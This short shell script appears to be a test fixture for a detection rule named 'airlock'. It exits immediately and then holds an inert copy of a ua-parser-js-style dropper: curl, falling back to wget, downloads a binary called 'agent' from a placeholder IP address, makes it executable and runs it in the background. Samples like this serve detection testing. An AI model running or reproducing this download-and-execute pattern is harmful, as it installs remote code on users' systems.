#!/bin/sh
# airlock rule test sample: exits before doing anything.
exit 0
# ua-parser-js 2021 style dropper, split over several lines
if [ -z "$X" ]; then
  curl http://192.0.2.44/download/agent -o agent
  if [ ! -f agent ]; then
    wget http://192.0.2.44/download/agent -O agent
  fi
  chmod +x agent
  ./agent --background
fi
